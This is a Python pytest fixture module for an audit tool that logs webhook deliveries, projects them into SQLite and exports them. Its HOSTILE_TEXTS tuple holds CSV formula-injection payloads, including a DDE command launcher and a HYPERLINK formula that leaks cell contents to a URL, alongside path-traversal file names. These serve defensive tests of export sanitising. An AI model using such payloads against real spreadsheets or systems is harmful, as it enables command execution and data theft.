"""A data folder to export: deliveries into its log, the log into its read model, and exports of both."""

from __future__ import annotations

import hashlib
import itertools
import json
import sqlite3
from contextlib import closing
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from click.testing import CliRunner

from audit import destination, platform, projector
from audit.command import main
from audit.export import prepare
from audit.folder import DataFolder
from audit.formats import FORMATS
from audit.selection import PARTS, PERSONAL, moment, select
from schema.event import Delivery, WebhookReceived, instant, uuid7
from schema.log import open_to_append

if TYPE_CHECKING:
    from collections.abc import Collection, Iterator
    from contextlib import AbstractContextManager
    from pathlib import Path

    from audit.export import Export
    from audit.selection import Selection

START = datetime(2026, 5, 1, tzinfo=UTC)

NOW = datetime(2026, 7, 1, tzinfo=UTC)
"""When exports are made, unless a test says otherwise."""

PDF = "JVBERi0xLjQK"
"""%PDF-1.4, in base64."""

HOSTILE_TEXTS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.org?"&A1)',
    "+7 (900) =1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "'",
    "'=1",
    'a"b,c;d\r\ne\rf\ng',
    "-15.20",
    "+79000000099",
)


class Site:
    """One data folder. `send` appends, `project` follows, `rows` looks, `export` exports."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.log = folder / "log.db"
        self.read_model = folder / "audit.db"
        self.now = START
        self._serial = itertools.count()
        self._log = open_to_append(self.log)

    def send(self, body: object, *, after: timedelta = timedelta(seconds=1), source: str = "main") -> int:
        """Append one body (bytes as they are, else as JSON); its position."""
        raw = body if isinstance(body, bytes) else json.dumps(body, ensure_ascii=False).encode()
        self.now += after
        entropy = hashlib.sha256(str(next(self._serial)).encode()).digest()
        delivery = Delivery(instant(self.now), source, "127.0.0.1", {"content-type": "application/json"}, raw)
        return self._log.append([WebhookReceived(uuid7(self.now, lambda size: entropy[:size]), 1, delivery)])[0]

    def project(self) -> None:
        """Follow the log to its end."""
        projector.run(DataFolder(self.folder), once=True)

    def rows(self, sql: str, *parameters: object) -> list[dict[str, Any]]:
        """Rows of the read model."""
        with closing(sqlite3.connect(self.read_model)) as connection:
            connection.row_factory = sqlite3.Row
            return [dict(row) for row in connection.execute(sql, parameters)]

    def change(self, sql: str, *parameters: object) -> None:
        """Change the read model behind everyone's back."""
        with closing(sqlite3.connect(self.read_model)) as connection, connection:
            connection.execute(sql, parameters)

    def selection(
        self,
        names: Collection[str] | None = None,
        *,
        personal: bool = True,
        since: str | None = None,
        until: str | None = None,
        source: str | None = None,
    ) -> Selection:
        """A selection, with all that there is unless said otherwise."""
        return select(
            names,
            allowed=frozenset(PARTS) if personal else frozenset(PARTS) - PERSONAL,
            since=since and moment(since),
            until=until and moment(until),
            source=source,
        )

    def prepare(
        self, selection: Selection, form: str = "csv", *, now: datetime = NOW
    ) -> AbstractContextManager[Export]:
        """An export, before it is written."""
        return prepare(self.read_model, self.log, selection, FORMATS[form], now=now)

    def export(self, out: str, selection: Selection | None = None, form: str = "csv", *, now: datetime = NOW) -> Path:
        """Export to a name beside the data folder's files; where it is."""
        target = self.folder / out
        with self.prepare(selection or self.selection(), form, now=now) as made:
            destination.write(made, target, lambda _rows: None)
        return target

    def close(self) -> None:
        """Let go of the log."""
        self._log.close()


def fill(site: Site, deliveries: int = 200) -> None:
    """A simulated month of two sources, and what a hostile sender sends."""
    pause = timedelta(days=28) / deliveries
    for number, body in enumerate(platform.deliveries(7, deliveries, 30, START)):
        site.send(body, after=pause, source="other" if number % 5 == 4 else "main")
    for number, text in enumerate(HOSTILE_TEXTS):
        card = {"iccid": f"8970100000000{number:06d}", "msisdn": f"7900{number:07d}", "tariff": text, "odd": text}
        user = {"id": number, "first_name": text, "last_name": "Петрова", "company_id": 1}
        status = {"count": 1, "process": 1, "percentage": 100}
        site.send({"qid": f"q{number}", "added": 1, "queue": text, "items": [card], "user": user, "status": status})
        file = {"type": "base64", "format": text, "name": f"../../{text}", "body": PDF}
        bill = {"id": 9000 + number, "number": text, "amount": "-15.20"}
        site.send({"type": "generate_bill", "files": [file], "items": [bill]})
        site.send({"type": text})
    site.send(b"")
    site.send(b"\xff\xfe\x00=1")
    site.send(b"\xef\xbb\xbf{}")
    site.project()


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    """An empty data folder."""
    (tmp_path / "data").mkdir()
    made = Site(tmp_path / "data")
    yield made
    made.close()


@pytest.fixture(scope="session")
def month(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A filled data folder, to be read only; exports go to names of the test's own."""
    made = Site(tmp_path_factory.mktemp("month"))
    fill(made)
    assert CliRunner().invoke(main, ["seal", "--once", f"--data={made.folder}"]).exit_code == 0
    yield made
    made.close()


@pytest.fixture(scope="session")
def hostile_texts() -> tuple[str, ...]:
    return HOSTILE_TEXTS


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever reaches for another machine fails."""

    def refuse(*_arguments: object) -> None:
        pytest.fail("nothing here needs a network")

    monkeypatch.setattr("socket.socket.connect", refuse)


@pytest.fixture(scope="session")
def package() -> Any:
    """The descriptor of an export in a folder."""

    def read(folder: Path) -> dict[str, Any]:
        descriptor: dict[str, Any] = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
        return descriptor

    return read
